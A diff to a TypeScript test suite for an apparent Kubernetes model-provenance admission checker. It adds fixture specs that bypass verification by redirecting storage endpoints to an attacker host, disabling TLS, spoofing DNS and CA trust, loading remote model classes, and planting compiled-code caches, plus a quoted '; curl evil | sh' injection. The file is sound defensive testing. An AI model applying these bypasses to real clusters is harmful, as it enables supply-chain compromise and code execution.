@@ -98,6 +98,9 @@ const isvc = (spec: Obj): Obj => ({
   spec,
 });
 
+/** The same Pod with its spec changed. */
+const withPodSpec = (p: Obj, f: (spec: Obj) => Obj): Obj => ({ ...p, spec: f(p.spec as Obj) });
+
 /** A downloader writing the emptyDir "k" that the verifier then checks and the server reads. */
 function downloaded(initContainer: Obj): Obj {
   return pod(
@@ -1167,6 +1170,51 @@ export const HOLES: ReviewCase[] = [
     "src/workloads/env.ts:47-49 with src/workloads/extract.ts:379 (a template's pod meta inherits the object's name; labels and annotations of the object are merged in too, although pods get only the template's)",
   ),
 
+  // ── source-provenance: download clients configured wholesale from the environment ──────────────────
+  hole(
+    'H99',
+    'source-provenance',
+    'KServe storage initializer with STORAGE_CONFIG (a storage configuration with another endpoint)',
+    downloaded({
+      name: 'storage-initializer',
+      image: SI,
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [
+        {
+          name: 'STORAGE_CONFIG',
+          value: '{"type": "s3", "bucket": "models-prod", "endpoint_url": "https://s3.attacker.example"}',
+        },
+      ],
+    }),
+    "KServe's storage initializer reads the whole storage configuration — type, bucket, endpoint_url — from STORAGE_CONFIG (what a storage Secret injects) and STORAGE_OVERRIDE_CONFIG: the allowed bucket's name now downloads the deployer's files, whose digest they declared (prod signs nothing), and the verifier agrees. H17 with the JSON form of the endpoint",
+    "src/workloads/servers.ts:105-124 (DOWNLOAD_ENV lists single endpoint variables; KServe's STORAGE_CONFIG and STORAGE_OVERRIDE_CONFIG are not among them). Class: every variable that configures the download client's endpoint, remote or transport is a redirect for unbound models",
+  ),
+  hole(
+    'H100',
+    'source-provenance',
+    "Seldon's rclone initializer with RCLONE_CONFIG_S3_ENDPOINT",
+    downloaded({
+      name: 'rclone-initializer',
+      image: img('seldonio/rclone-storage-initializer'),
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [{ name: 'RCLONE_CONFIG_S3_ENDPOINT', value: 'https://s3.attacker.example' }],
+    }),
+    'rclone configures a remote entirely from RCLONE_CONFIG_<REMOTE>_* variables (type, endpoint, url): the remote "s3" now points at the deployer\'s server',
+    'as H99 (src/workloads/servers.ts:105-124: no prefix-named download settings)',
+  ),
+  hole(
+    'H101',
+    'source-provenance',
+    'KServe storage initializer with S3_VERIFY_SSL=0 (TLS not verified)',
+    downloaded({
+      name: 'storage-initializer',
+      image: SI,
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [{ name: 'S3_VERIFY_SSL', value: '0' }],
+    }),
+    "with certificate verification off (or S3_USE_HTTPS=0, PYTHONHTTPSVERIFY=0), anyone on the network path — a pod on the node with NET_ADMIN and hostNetwork, a compromised proxy — serves the allowed bucket's bytes",
+    'as H99 (src/workloads/servers.ts:105-124; S3_USE_HTTPS was read only to qualify an explicit S3_ENDPOINT, downloads.ts:13-18)',
+  ),
   // ── cross-pod-integrity ────────────────────────────────────────────────────────────────────────────
   hole(
     'H59',
@@ -1775,6 +1823,252 @@ export const HOLES: ReviewCase[] = [
     "the tokenizer defaults to the model's repository, fetched at --tokenizer-revision (main), not at --revision: tokenizer.json and tokenizer_config.json (its chat template, added tokens, and with --trust-remote-code its code) move with the branch. H33's fix pins an explicit --tokenizer by its own revision; the implicit one is not a candidate at all. Same in KServe's huggingfaceserver (--tokenizer_revision)",
     'src/workloads/container.ts:419-431 (revisions are matched to candidates; the implicit tokenizer — the model id at --tokenizer-revision — is never a candidate). Fix: when a tokenizer revision is given without a tokenizer, add the model id at that revision as a tokenizer candidate (and likewise for every "<artefact>-revision" whose artefact defaults to the model)',
   ),
+
+  // ══ Round 4: found after H01-H86 (except H63, H65) were fixed ═════════════════════════════════════════
+  // ── grammar-gaps: spellings the server accepts that modelgate did not ─────────────────────────────────
+  hole(
+    'H87',
+    'grammar-gaps',
+    'llama.cpp --control_vector (underscore spelling) from a PVC',
+    pod('prod', {
+      containers: [
+        {
+          name: 'llama',
+          image: LLAMA,
+          args: ['-m', '/models/m/model.gguf', '--control_vector', '/w/steer.gguf'],
+          volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
+        },
+      ],
+      volumes: [modelVol, scratch],
+    }),
+    'llama.cpp turns every "_" of a "--" flag into "-" before looking it up (common/arg.cpp), so --control_vector is --control-vector: a steering vector from an unchecked claim is applied to every layer of the verified model. modelgate knew no underscore form for llama.cpp, and "control_vector" matched none of the model-ish words, so the value was dropped as an unknown flag\'s',
+    'src/workloads/servers.ts:325 (LLAMA_CPP has no underscoresAreDashes) and src/workloads/command-line.ts:52 (MODEL_ISH lacks "vector"). Class: a grammar must normalise flag spellings exactly as its server does; fixed for llama.cpp (underscores), and "vector" joins the model-ish words',
+  ),
+  hole(
+    'H102',
+    'grammar-gaps',
+    'vLLM --load-format naming a loader plugin (weights from a peer, not from the model path)',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '/models/m', '--load-format', 'modelexpress'],
+      env: [{ name: 'MODEL_EXPRESS_URL', value: 'modelexpress.attacker.svc:8001' }],
+    }),
+    "vLLM resolves --load-format through its loader registry, which plugins extend (llm-d's images ship ModelExpress, whose loader receives weights from a peer GPU over the network): the verified volume is named, other weights are loaded. --load-format was an inert value; so was --distributed-executor-backend, which also takes a Python class path",
+    "src/workloads/servers.ts:211 (--load-format read as a value that names nothing). Class: a flag whose value selects among the server's built-in implementations accepts only those; a plugin's name or a class path is unreadable",
+  ),
+  // ── code-injection: JSON options, working directories and default caches that run code ────────────────
+  hole(
+    'H88',
+    'code-injection',
+    'vLLM --hf-overrides auto_map: the model class comes from another repository',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: [
+            'vllm',
+            'serve',
+            'example-org/llama',
+            '--revision',
+            C,
+            '--trust-remote-code',
+            '--hf-overrides',
+            '{"auto_map": {"AutoModelForCausalLM": "evil-org/x--modeling.Model"}}',
+          ],
+        },
+      ],
+    }),
+    'the pinned, allowed model is loaded with a class transformers fetches from evil-org/x (the "repo--module.Class" form of auto_map), unpinned and unchecked: arbitrary Python in the server, which can load any weights. --hf-overrides was an inert value; the same for any JSON option whose strings name repositories, files or modules (--kv-transfer-config kv_connector_module_path, --compilation-config backend "evil.mod.fn", --default-mm-loras, the dotted form --hf-overrides.auto_map.X)',
+    'src/workloads/servers.ts:236 (--hf-overrides read as an inert value) and src/workloads/command-line.ts:320-348 (jsonModels reads only its model keys and ignores every other key). Class: JSON options are read by key — models and revisions where the grammar says, code keys and dotted Python names unreadable, and any other string that looks like a path, URI, repository or module unreadable',
+  ),
+  hole(
+    'H89',
+    'code-injection',
+    "vLLM's torch.compile cache (~/.cache/vllm, the default location) on a claim",
+    vllmPod(
+      'prod',
+      {
+        command: ['vllm', 'serve', '/models/m'],
+        volumeMounts: [...ro, { name: 'w', mountPath: '/root/.cache/vllm' }],
+      },
+      [scratch],
+    ),
+    'vLLM loads the compiled graphs and Inductor kernels it finds in its cache (a hash of the model and config the deployer can compute) instead of compiling: Python and shared objects from the claim run in the server. No variable names the cache, so the code-loading variables (VLLM_CACHE_ROOT, TORCHINDUCTOR_CACHE_DIR, TRITON_CACHE_DIR) never saw it. Same for ~/.cache/torch_extensions, ~/.cache/flashinfer, ~/.triton, ~/.nv and /tmp/torchinductor_<user>',
+    'src/workloads/overlays.ts:35 (HOME_CODE_LOCATIONS covers .local/.config/... but not the compiled-code caches at their default locations). Class: a volume at, inside or above a default compiled-code cache is a volume over code',
+  ),
+  hole(
+    'H90',
+    'code-injection',
+    "TorchInductor's default cache: a claim mounted at /tmp",
+    vllmPod(
+      'prod',
+      { command: ['vllm', 'serve', '/models/m'], volumeMounts: [...ro, { name: 'w', mountPath: '/tmp' }] },
+      [scratch],
+    ),
+    'torch.compile reads /tmp/torchinductor_root/ (compiled Python wrappers and .so kernels) before compiling: the claim supplies code the server runs',
+    'as H89 (src/workloads/overlays.ts:35)',
+  ),
+  hole(
+    'H91',
+    'exec-identity',
+    "vLLM's image entrypoint (python3 -m vllm.entrypoints.openai.api_server) with workingDir on a ConfigMap",
+    vllmPod('prod', withCfg({ args: ['--model', '/models/m'], workingDir: '/cfg' }), [cfgVol]),
+    "python -m puts the working directory first on sys.path, so /cfg/vllm/ (ConfigMap items with paths) replaces the vllm package the official image ships: H09 with the image's own entrypoint instead of an explicit command. Also a volume over the image's WORKDIR (/vllm-workspace) without workingDir, and KServe's server images (python -m huggingfaceserver)",
+    "src/workloads/container.ts:368 (an entrypoint recognised by image is trusted; the python -m working-directory rule, programOrigin at container.ts:391, runs only for an explicit command). Class: the working directory of an image's entrypoint is part of what runs",
+  ),
+  hole(
+    'H98',
+    'code-injection',
+    'XDG_CACHE_HOME on a claim beside a signed model (every ~/.cache code cache moves there)',
+    pod(
+      'signed',
+      {
+        containers: [
+          {
+            name: 'server',
+            image: VLLM,
+            args: ['--model', '/models/m'],
+            env: [{ name: 'XDG_CACHE_HOME', value: '/cache' }],
+            volumeMounts: [
+              { name: 'w', mountPath: '/models/m', readOnly: true },
+              { name: 'c', mountPath: '/cache' },
+            ],
+          },
+        ],
+        volumes: [
+          { name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } },
+          { name: 'c', persistentVolumeClaim: { claimName: 'shared-cache' } },
+        ],
+      },
+      annotate([
+        {
+          name: 'llama',
+          volume: 'w',
+          digest: SIGNED,
+          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
+        },
+      ]),
+    ),
+    "vLLM keeps its torch.compile cache in $XDG_CACHE_HOME/vllm (torch extensions, FlashInfer and outlines' caches follow the same variable): compiled Python and kernels from a shared claim run in the server of a signed, verified model. XDG_CACHE_HOME was read only as the Hugging Face download cache, which a signed model makes irrelevant",
+    'src/workloads/servers.ts:117 (XDG_CACHE_HOME is a download-cache variable only) and src/workloads/code-env.ts:11-46 (CODE_ENV lacks the cache and tool variables of compilers: XDG_CACHE_HOME, TRITON_HOME, CUDA_CACHE_PATH, FLASHINFER_WORKSPACE_BASE, CC, ...). Class: every variable that moves a compiled-code cache or names a compiler or injected library is code-loading environment',
+  ),
+  // ── object-level: KServe fields that name what is loaded ───────────────────────────────────────────
+  hole(
+    'H92',
+    'object-level',
+    'InferenceService storageUris (multiple storage URIs) from any bucket',
+    isvc({
+      predictor: {
+        model: {
+          modelFormat: { name: 'huggingface' },
+          storageUri: `hf://example-org/llama:${C}`,
+          storageUris: [{ uri: 's3://evil-bucket/lora', path: '/mnt/models/adapters' }],
+        },
+      },
+    }),
+    "KServe's storage initializer downloads every storageUris entry into the component's /mnt/models (documented for base model + adapters); modelgate read storageUri only, so the object was admitted and the audit reported it compliant. Any other storage* field KServe adds later was ignored the same way",
+    'src/workloads/extract.ts:364-398 (scanKServeComponent reads storageUri and storage only). Class: every storage field of a KServe component and model field is read (storageUri, storageUris[].uri, storage) and any other storage* field is unreadable',
+  ),
+  hole(
+    'H93',
+    'object-level',
+    'LLMInferenceService VLLM_ADDITIONAL_ARGS: more vLLM flags, evaluated by the shell',
+    {
+      apiVersion: 'serving.kserve.io/v1alpha1',
+      kind: 'LLMInferenceService',
+      metadata: { name: 'l', namespace: 'prod' },
+      spec: {
+        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
+        template: {
+          containers: [
+            { name: 'main', env: [{ name: 'VLLM_ADDITIONAL_ARGS', value: '--tokenizer evil-org/tok' }] },
+          ],
+        },
+      },
+    },
+    'KServe\'s vLLM template runs eval "vllm serve /mnt/models ... ${VLLM_ADDITIONAL_ARGS} $@": the variable is the documented way to pass vLLM flags to an LLMInferenceService, so --tokenizer, --speculative-config or --lora-modules there load unchecked models, and "; curl evil | sh" runs any command. modelgate read the args of the main container as vLLM but not this variable',
+    "src/workloads/container.ts:277 (a vLLM patch container contributes only its args). Class: what KServe's template adds to the command line is read as the command line (literal words only; anything the shell would evaluate is unreadable)",
+  ),
+  // ── source-provenance: name resolution and trust the pod sets ─────────────────────────────────────
+  hole(
+    'H94',
+    'source-provenance',
+    'hostAliases send huggingface.co to the deployer, whose CA is a ConfigMap over /etc/ssl/certs',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          volumeMounts: [{ name: 'cfg', mountPath: '/etc/ssl/certs', readOnly: true }],
+        },
+      ],
+      volumes: [cfgVol],
+      hostAliases: [{ ip: '10.1.2.3', hostnames: ['huggingface.co', 'cas-bridge.xethub.hf.co'] }],
+    }),
+    "H70 without the variable: the system trust store is replaced by a mount instead of REQUESTS_CA_BUNDLE, so the unbound hub download of the pinned commit comes from 10.1.2.3 with any bytes. hostAliases, dnsPolicy None with the pod's own nameservers or search domains, and a file over /etc/hosts or /etc/resolv.conf were never read; nor was a volume over /etc/ssl or /etc/pki",
+    "src/workloads/downloads.ts:21 (readDownloadEnv reads endpoint variables only; the pod spec's hostAliases/dnsConfig and mounts over resolver files and trust stores are not inputs). Class: for containers that download at run time, anything that changes where a host resolves or which certificate authority is trusted is a redirect (unbound models)",
+  ),
+  hole(
+    'H95',
+    'source-provenance',
+    "the pod's own DNS server (dnsPolicy None) for a storage-initializer download",
+    withPodSpec(
+      downloaded({
+        name: 'storage-initializer',
+        image: SI,
+        args: ['s3://models-prod/llama', '/mnt/models'],
+        volumeMounts: [
+          { name: 'k', mountPath: '/mnt/models' },
+          { name: 'cfg', mountPath: '/etc/ssl/certs/ca-certificates.crt', subPath: 'ca.crt' },
+        ],
+      }),
+      (spec) => ({
+        ...spec,
+        dnsPolicy: 'None',
+        dnsConfig: { nameservers: ['10.1.2.3'] },
+        volumes: [...(spec.volumes as Obj[]), cfgVol],
+      }),
+    ),
+    'the allowed bucket name resolves through the deployer\'s nameserver to their server; with their CA trusted, it serves files for which the deployer declared the digest (prod signs nothing), and the verifier then "verifies" them',
+    'as H94 (src/workloads/downloads.ts:21)',
+  ),
+  // ── cross-pod-integrity ───────────────────────────────────────────────────────────────────────────
+  hole(
+    'H96',
+    'cross-pod-integrity',
+    'a Windows HostProcess container beside the server',
+    pod('prod', {
+      containers: [
+        { name: 'server', image: VLLM, command: ['vllm', 'serve', '/models/m'], volumeMounts: ro },
+        {
+          name: 'istio-proxy',
+          image: ISTIO,
+          securityContext: { windowsOptions: { hostProcess: true } },
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    "a HostProcess container runs as a process on the node itself, outside any container: the node's files, every pod's volumes included. It is privileged in all but name",
+    'src/workloads/container.ts:263 (privileged reads securityContext.privileged and capabilities only; windowsOptions.hostProcess, container or pod level, is not read)',
+  ),
+  // ── object-level, judged in the Pods (a limitation, like H57) ─────────────────────────────────────
+  hole(
+    'H97',
+    'object-level',
+    'LLMInferenceService baseRefs: a configuration object the namespace wrote',
+    {
+      apiVersion: 'serving.kserve.io/v1alpha1',
+      kind: 'LLMInferenceService',
+      metadata: { name: 'l', namespace: 'prod' },
+      spec: {
+        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
+        baseRefs: [{ name: 'my-config' }],
+      },
+    },
+    "KServe merges the LLMInferenceServiceConfig objects baseRefs names (namespaced, editable by the deployer) into the spec: their template's image, command, env and init containers are not in the object. As with H57 (a ServingRuntime), the object is judged by what it says and the merged containers in the Pods",
+    "src/workloads/extract.ts:364 (scanKServeComponent does not read baseRefs). Limitation: keep Pods in every policy's kinds (docs/policy.md)",
+  ),
 ];
 
 function endpointPod(ep: string): Obj {
@@ -2154,6 +2448,153 @@ export const FALSE_POSITIVES: ReviewCase[] = [
     'KServe\'s most common shape: the storage initializer downloads s3://models-prod/sk into the volume kserve-provision-location, KServe copies the object\'s annotations to the pods, and the pods (storage initializer, then the injected verifier, then the server) are admitted. The object is refused: a storageUri reference has no volume, so no annotation entry can pin it ("names volume kserve-provision-location, which the pod spec does not define"), and without one it is "not pinned" — under requirePinned or authorities no InferenceService with an S3/GCS/PVC model can be created',
     "src/workloads/extract.ts:337-338 (a storageUri is added with no volume) with src/workloads/extract.ts:493 (a declared volume must exist in a pod spec of the object). Fix: bind an annotation entry to a component's storageUri (by KServe's volume name kserve-provision-location, or by name), and count the verifier its pods will get",
   ),
+  // ── Round 4 ─────────────────────────────────────────────────────────────────────────────────────────
+  falsePositive(
+    'FP16',
+    'llm-d prefill/decode: vLLM with --kv-transfer-config NixlConnector',
+    pod('prod', {
+      containers: [
+        {
+          name: 'vllm',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          args: [
+            '--port=8200',
+            '--kv-transfer-config={"kv_connector":"NixlConnector","kv_role":"kv_both"}',
+            '--block-size=128',
+            '--enforce-eager',
+          ],
+          env: [
+            { name: 'VLLM_NIXL_SIDE_CHANNEL_HOST', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
+            { name: 'UCX_TLS', value: 'cuda_ipc,cuda_copy,tcp' },
+          ],
+        },
+      ],
+    }),
+    "llm-d's and vLLM's documented disaggregated serving: the connector is a name vLLM registers; nothing in the JSON names a file or a module",
+    'src/workloads/command-line.ts:52,213 (an unknown flag whose name contains "config" is unreadable whatever its value)',
+  ),
+  falsePositive(
+    'FP17',
+    'vLLM --compilation-config with CUDA graph sizes',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '/models/m'],
+      args: [
+        '--compilation-config',
+        '{"cudagraph_mode":"FULL_DECODE_ONLY","cudagraph_capture_sizes":[1,2,4,8]}',
+      ],
+    }),
+    "vLLM's documented tuning of torch.compile and CUDA graphs: numbers and keywords",
+    'as FP16 (src/workloads/command-line.ts:52,213)',
+  ),
+  falsePositive(
+    'FP18',
+    'vLLM --speculative-config with the draft pinned by its own "revision"',
+    pod('prod', {
+      containers: [
+        {
+          name: 'vllm',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          args: [
+            '--speculative-config',
+            `{"method":"eagle3","model":"example-org/llama-eagle3","num_speculative_tokens":3,"revision":"${C}"}`,
+          ],
+        },
+      ],
+    }),
+    "vLLM's SpeculativeConfig takes the draft model's revision in the same JSON; a pinned draft of an allowed org is exactly what requirePinned asks for",
+    'src/workloads/command-line.ts:320-348 (jsonModels reads the model key and ignores "revision", so the draft is "not pinned")',
+  ),
+  falsePositive(
+    'FP19',
+    'llama.cpp --chat-template-file from a ConfigMap',
+    pod('prod', {
+      containers: [
+        {
+          name: 'llama',
+          image: LLAMA,
+          args: ['-m', '/models/m/model.gguf', '--jinja', '--chat-template-file', '/cfg/template.jinja'],
+          volumeMounts: [...ro, cfgMount],
+        },
+      ],
+      volumes: [modelVol, cfgVol],
+    }),
+    "llama.cpp's documented way to give a model a chat template: a Jinja text it renders prompts with, not weights or code it loads",
+    'src/workloads/servers.ts:325-400 (--chat-template-file is not in the llama.cpp grammar, and its name contains "file")',
+  ),
+  falsePositive(
+    'FP20',
+    "Triton with --disable-auto-complete-config and --model-load-thread-count (Triton's documented flags)",
+    pod('prod', {
+      containers: [
+        {
+          name: 'triton',
+          image: TRITON,
+          command: [
+            'tritonserver',
+            '--model-repository=/models/m',
+            '--disable-auto-complete-config',
+            '--model-load-thread-count=4',
+            '--metrics-config=summary_latencies=true',
+          ],
+          volumeMounts: ro,
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    'a model repository on a pinned image volume, served with settings that name no file or model',
+    'src/workloads/command-line.ts:52,213 (the unknown flags contain "config" and "load", so they are unreadable whatever their value); src/workloads/servers.ts:486-515 (the Triton grammar lists a dozen of its flags)',
+  ),
+  falsePositive(
+    'FP21',
+    "llama.cpp speculative decoding with its draft's tuning (--draft-p-min, --ctx-size-draft)",
+    pod('prod', {
+      containers: [
+        {
+          name: 'llama',
+          image: LLAMA,
+          args: [
+            '-m',
+            '/models/m/model.gguf',
+            '-md',
+            '/models/m/draft.gguf',
+            '--draft-p-min',
+            '0.8',
+            '--ctx-size-draft',
+            '4096',
+          ],
+          volumeMounts: ro,
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    'both models on the pinned image volume; the other flags are numbers',
+    'src/workloads/command-line.ts:52,213 ("draft" in an unknown flag\'s name makes it unreadable)',
+  ),
+  falsePositive(
+    'FP22',
+    "LLMInferenceService pinning vLLM's image in its main container (no command)",
+    {
+      apiVersion: 'serving.kserve.io/v1alpha1',
+      kind: 'LLMInferenceService',
+      metadata: { name: 'l', namespace: 'prod' },
+      spec: {
+        model: { uri: `hf://example-org/llama:${C}`, name: 'llama' },
+        template: {
+          containers: [
+            {
+              name: 'main',
+              image: VLLM,
+              env: [{ name: 'VLLM_ADDITIONAL_ARGS', value: '--max-model-len 16384' }],
+            },
+          ],
+        },
+      },
+    },
+    "KServe merges the container by name into its template: the template's command (vllm serve /mnt/models ... ${VLLM_ADDITIONAL_ARGS}) runs in the image the object pins, serving spec.model.uri. modelgate read the container as the image's own entrypoint with no model named, so vLLM's built-in default (facebook/opt-125m) was checked and refused",
+    'src/workloads/container.ts:275 (only a container with neither image nor command is read as the template KServe completes)',
+  ),
 ];
 
 /** Every case, holes first. */
@@ -2163,6 +2604,7 @@ export const FALSE_POSITIVES: ReviewCase[] = [
  */
 export const LIMITATIONS: Record<string, string> = {
   H57: "an InferenceService names its ServingRuntime (or KServe picks one by modelFormat); the runtime's container is not in the object, so the object is judged by what it says, and the runtime's container where it runs: in the Pods, which every policy selects unless match.kinds leaves them out (the policy webhook warns then; docs/policy.md, KServe)",
+  H97: "an LLMInferenceService's baseRefs name LLMInferenceServiceConfig objects whose templates KServe merges into its pods; like H57's ServingRuntime, they are not in the object, so the object is judged by what it says and the merged containers where they run: in the Pods (docs/policy.md, KServe)",
   H25: 'a commit pins content, not authorship: anyone can push a commit to a public hub repository (a pull request), so hub sources with requirePinned prove which bytes, not whose; authorities prove whose (docs/policy.md, requirePinned)',
 };
 for (const h of HOLES) if (h.id in LIMITATIONS) h.want = h.now = 'admitted';
